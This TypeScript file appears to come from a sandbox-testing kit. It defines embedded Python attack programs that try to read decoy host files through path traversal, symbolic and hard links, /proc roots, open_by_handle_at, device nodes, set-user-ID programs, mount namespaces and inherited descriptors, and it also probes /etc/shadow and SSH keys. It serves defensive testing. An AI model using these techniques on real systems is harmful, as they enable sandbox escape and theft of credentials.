import { rm, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { freshNonce } from "../decoys/nonce.js";
import { commandOf, runProgram } from "../programs/run-program.js";
import { type Attack, blocked, notRun, reached } from "./attack.js";
import { outcomeOf, programAttack } from "./program-attack.js";

/** Access to a file outside by its path. */
const pathAttacks = [
  programAttack({
    id: "filesystem.host-hidden/by-path",
    title: "read a file of the host by its path",
    parameters: ({ decoys }) => ({ path: decoys.folder.secretFile }),
    program: `attempt("open", lambda: leaks(content(P["path"])))`,
  }),
  programAttack({
    id: "filesystem.host-hidden/by-parents",
    title: "leave the workspace through ..",
    parameters: ({ decoys }) => ({ path: decoys.folder.secretFile }),
    program: `
attempt("relative", lambda: leaks(content("../" * 40 + P["path"].lstrip("/"))))
attempt("cwd", lambda: leaks(content("/proc/self/cwd/" + "../" * 40 + P["path"].lstrip("/"))))`,
  }),
  programAttack({
    id: "filesystem.host-hidden/symlink",
    title: "read a file of the host through a symbolic link in the workspace",
    parameters: ({ decoys, sandbox }) => ({ path: decoys.folder.secretFile, home: sandbox.home }),
    program: `
def through(target, rest=""):
    link = "link-%d" % time.monotonic_ns()
    os.symlink(target, link)
    return leaks(content(link + rest))
os.chdir(os.environ.get("TMPDIR", "/tmp"))
attempt("file", lambda: through(P["path"]))
attempt("folder", lambda: through(os.path.dirname(P["path"]), "/" + os.path.basename(P["path"])))
attempt("root", lambda: through("/proc/self/root", P["path"]))`,
  }),
  programAttack({
    id: "filesystem.host-hidden/hard-link",
    title: "read a file of the host through a hard link",
    parameters: ({ decoys }) => ({ path: decoys.folder.victimFile, secret: decoys.folder.secretFile }),
    // A user may link only to files that it may write, so the victim replaces the secret.
    program: `
def linked(source):
    target = os.path.join(os.path.dirname(source), "link-%d" % time.monotonic_ns())
    for folder in (os.getcwd(), os.environ.get("TMPDIR", "/tmp"), os.path.dirname(source)):
        target = os.path.join(folder, "link-%d" % time.monotonic_ns())
        try:
            os.link(source, target)
            return content(target) and "linked into " + folder
        except OSError as error:
            failure = error
    raise failure
attempt("link", lambda: linked(P["path"]))`,
  }),
  programAttack({
    id: "filesystem.host-hidden/other-roots",
    title: "read a file of the host through the roots and working folders of other processes",
    parameters: ({ decoys }) => ({ path: decoys.folder.secretFile }),
    program: `
places = glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/task/*/root")
attempt("roots", lambda: each([place + "/" + "../" * 20 + P["path"] for place in places] +
                              [place + P["path"] for place in places], content))`,
  }),
  programAttack({
    id: "filesystem.host-hidden/search",
    title: "search every readable folder for files of others",
    parameters: ({ decoys }) => ({ folder: decoys.folder.path, name: decoys.folder.path.split("/").at(-1) }),
    program: `
def search():
    entries = 0
    for folder, folders, files in os.walk("/"):
        if folder == "/":
            folders[:] = [name for name in folders if name not in ("proc", "sys", "usr", "dev", "lib", "lib64")]
        entries += len(folders) + len(files)
        if P["name"] in folders or folder.endswith(P["name"]):
            return os.path.join(folder, P["name"])
        if entries > 200000:
            break
    return None
attempt("walk", search)
attempt("listed", lambda: os.listdir(P["folder"]) and "the folder can be listed")`,
  }),
  programAttack({
    id: "filesystem.host-hidden/homes-and-keys",
    title: "open the host's password hashes, its keys and the homes of its users",
    needs: "a user who may read them",
    asRoot: true,
    program: `
def opened(path):
    os.close(os.open(path, os.O_RDONLY))
    return "opened " + path
for path in ["/etc/shadow", "/etc/gshadow", "/etc/sudoers"] + glob.glob("/etc/ssh/*_key"):
    attempt(path, lambda: opened(path))
def homes():
    import pwd
    for user in pwd.getpwall():
        if user.pw_dir.startswith(("/root", "/home/")) and user.pw_dir != os.environ.get("HOME") and user.pw_uid != os.getuid():
            if os.path.isdir(user.pw_dir) and os.listdir(user.pw_dir):
                return "listed the home of " + user.pw_name
    return None
attempt("homes", homes)`,
  }),
] as const;

/** Access to a file outside without its path. */
export const kernelAttacks = [
  programAttack({
    id: "filesystem.host-hidden/file-handle",
    title: "open a file by its handle, without a path",
    needs: "CAP_DAC_READ_SEARCH",
    asRoot: true,
    program: `
numbers = {"x86_64": (303, 304), "aarch64": (264, 265)}
def by_handle():
    name_to_handle, open_by_handle = numbers[os.uname().machine]
    path = os.path.join(os.environ.get("TMPDIR", "/tmp"), "handle-%d" % time.monotonic_ns())
    for place in (path, "/usr/bin/env"):
        try:
            if place == path:
                open(path, "w").close()
            handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
            mount = ctypes.c_int()
            syscall(name_to_handle, -100, place.encode(), handle, ctypes.byref(mount), 0)
            folder = os.open(os.path.dirname(place), os.O_RDONLY)
            os.close(syscall(open_by_handle, folder, handle, os.O_RDONLY))
            return "any file of this file system can be opened by its number"
        except OSError as error:
            failure = error
    raise failure
attempt("open_by_handle_at", by_handle)`,
  }),
  programAttack({
    id: "filesystem.host-hidden/device-nodes",
    title: "open the host's memory, log or disks through existing or new device files",
    needs: "CAP_MKNOD",
    asRoot: true,
    program: `
def opened(path):
    # Opened and closed: no byte of a real disk is read.
    os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
    return "opened " + path
disks = [path for pattern in ("vd?", "sd?", "xvd?", "nvme?n?", "dm-?", "loop?") for path in glob.glob("/dev/" + pattern)]
for path in ["/dev/kmsg", "/dev/mem", "/dev/port", "/dev/kvm"] + disks:
    attempt(path, lambda: opened(path))
def made(device):
    path = os.path.join(os.environ.get("TMPDIR", "/tmp"), "device-%d" % time.monotonic_ns())
    os.mknod(path, stat.S_IFBLK | 0o600, device)
    try:
        return opened(path)
    finally:
        os.unlink(path)
for place in ("/", "/usr"):
    attempt("mknod", lambda: made(os.stat(place).st_dev))`,
  }),
  programAttack({
    id: "filesystem.host-hidden/set-user-id",
    stoppedBy: ["no new privileges"],
    title: "run a set-user-ID program of the host",
    needs: "a set-user-id program",
    program: String.raw`
def changed():
    """The effective user of a program that blocks while writing."""
    seen = []
    for path in ("/usr/bin/mount", "/usr/bin/umount", "/usr/bin/su", "/usr/bin/passwd", "/usr/bin/chsh"):
        if not os.path.exists(path) or not os.stat(path).st_mode & stat.S_ISUID:
            continue
        reader, writer = os.pipe()
        os.set_blocking(writer, False)
        try:
            while True:
                os.write(writer, bytes(4096))
        except BlockingIOError:
            os.set_blocking(writer, True)
        child = subprocess.Popen([path, "--help"], stdin=subprocess.DEVNULL, stdout=writer, stderr=writer)
        os.close(writer)
        try:
            for _ in range(200):
                state = content("/proc/%d/status" % child.pid).decode()
                if path.split("/")[-1] in state.split("\n")[0] and "(sleeping)" in state:
                    break
                time.sleep(0.01)
            real, effective = re.search(r"Uid:\s+(\d+)\s+(\d+)", state).groups()
            if real != effective:
                return "%s ran as user %s" % (path, effective)
            seen.append(path)
        finally:
            os.close(reader)
            child.wait()
    if not seen:
        raise OSError(errno.ENOENT, "none in sight")
    return None
attempt("set-user-id", changed)`,
  }),
  programAttack({
    id: "filesystem.host-hidden/own-mounts",
    stoppedBy: ["system call filter", "refusal of nested user namespaces", "hidden host files"],
    title: "uncover hidden paths in a new mount namespace",
    needs: "unprivileged user namespaces",
    parameters: ({ decoys }) => ({ path: decoys.folder.secretFile }),
    program: String.raw`
def uncover():
    check(libc.unshare(0x10000000 | 0x00020000))
    for line in reversed(content("/proc/self/mounts").decode().split("\n")):
        if line:
            libc.umount2(line.split()[1].encode(), 2)
    return leaks(content(P["path"]))
attempt("unshare", uncover)`,
  }),
  inheritedDescriptors(),
] as const;

/** Files that the runner has open without close-on-exec: its own shell's leftovers, a library's log. */
function inheritedDescriptors(): Attack {
  return {
    id: "filesystem.host-hidden/inherited-descriptors",
    stoppedBy: ["closed descriptors"],
    capability: "filesystem.host-hidden",
    title: "read a file that the runner has open",
    needsRunner: true,
    alone: true,
    perform: async ({ decoys, startRunner }) => {
      if (startRunner === undefined) return notRun("the kit has no way to start a separate runner");
      const inheritedFile = join(decoys.folder.path, freshNonce());
      await writeFile(inheritedFile, decoys.secret, { mode: 0o600 });
      const runner = await startRunner({ argv: commandOf(program, {}).argv, inheritedFile });
      try {
        return outcomeOf(await runner.finished);
      } finally {
        await runner.kill();
        await rm(inheritedFile);
      }
    },
  };
}

const program = `
def descriptors():
    found = set()
    for name in os.listdir("/proc/self/fd"):
        if int(name) < 3:
            continue
        for read in (lambda: os.pread(int(name), 4096, 0), lambda: content("/proc/self/fd/" + name)):
            try:
                found.update(leaks(read()).split())
            except OSError:
                continue
    return " ".join(found)
attempt("descriptors", descriptors)
attempt("init's descriptors", lambda: each(glob.glob("/proc/1/fd/*") + glob.glob("/proc/%d/fd/*" % os.getppid()),
                                           lambda path: content(path) if os.path.isfile(path) else b""))
`;

export const sessionAttacks = [
  anotherSession(),
  programAttack({
    id: "filesystem.host-hidden/shared-memory",
    title: "read shared memory of the host as a file",
    parameters: async ({ decoyProcess }) => {
      const { memoryFile } = await decoyProcess();
      return memoryFile === undefined ? "no shared memory files" : { memoryFile };
    },
    program: `attempt("open", lambda: leaks(content(P["memoryFile"])))`,
  }),
  programAttack({
    id: "filesystem.host-hidden/key-list",
    stoppedBy: ["covered kernel tables"],
    title: "read the list of the host's keys",
    parameters: async ({ decoyProcess }) => {
      const { key } = await decoyProcess();
      return key === undefined ? "no keyrings" : {};
    },
    program: `attempt("/proc/keys", lambda: b"ambit-decoy" in content("/proc/keys") and "the decoy's key is listed")`,
  }),
  linkForTheRunner(),
] as const;

function anotherSession(): Attack {
  return {
    id: "filesystem.host-hidden/another-session",
    stoppedBy: ["session separation"],
    capability: "filesystem.host-hidden",
    title: "read the workspace and home of another session",
    perform: async (stage) => {
      const other = await stage.openAnother();
      const name = freshNonce();
      const paths = [`${other.workspace}/${name}`, `${other.home}/${name}`];
      await other.writeFiles(paths.map((path) => ({ path, content: stage.decoys.secret })));
      return outcomeOf(await runProgram(stage.sandbox, searchForName, { name, paths }));
    },
  };
}

const searchForName = `
attempt("by path", lambda: each(P["paths"], content))
def search():
    entries = 0
    for folder, folders, files in os.walk("/"):
        if folder == "/":
            folders[:] = [name for name in folders if name not in ("proc", "sys", "usr", "dev", "lib", "lib64")]
        if P["name"] in files:
            return leaks(content(os.path.join(folder, P["name"])))
        entries += len(files)
        if entries > 200000:
            break
    return None
attempt("walk", search)
`;

/** The runner reads files of the workspace on the run's behalf, and must not follow links outside. */
function linkForTheRunner(): Attack {
  return {
    id: "filesystem.host-hidden/link-for-the-runner",
    stoppedBy: ["no-follow file access"],
    capability: "filesystem.host-hidden",
    title: "make the runner read a file of the host through a link, or a folder exchanged for one",
    perform: async ({ sandbox, decoys }) => {
      const [folder, file] = [decoys.folder.path, decoys.folder.secretFile];
      const base = sandbox.home;
      const planted = outcomeOf(
        await runProgram(sandbox, plantLinks, { base, folder, file }, { role: "agent" }),
      );
      if (planted.result !== "reached") return planted;
      const name = file.slice(folder.length + 1);
      for (const path of [`${base}/file-link`, `${base}/folder-link/${name}`, `${base}/up-link${file}`]) {
        const read = await sandbox.readFile(path).then(
          (bytes) => new TextDecoder().decode(bytes),
          () => "",
        );
        if (read.includes(decoys.secret)) return reached(`the runner read ${path}`);
      }
      return blocked("the runner followed none of the links");
    },
  };
}

const plantLinks = `
def plant():
    for name, target in (("file-link", P["file"]), ("folder-link", P["folder"]), ("up-link", "/")):
        path = os.path.join(P["base"], name)
        if not os.path.islink(path):
            os.symlink(target, path)
    return "the links are in place"
attempt("links", plant)
`;

export const filesystemHostHidden = [...pathAttacks, ...kernelAttacks, ...sessionAttacks] as const;
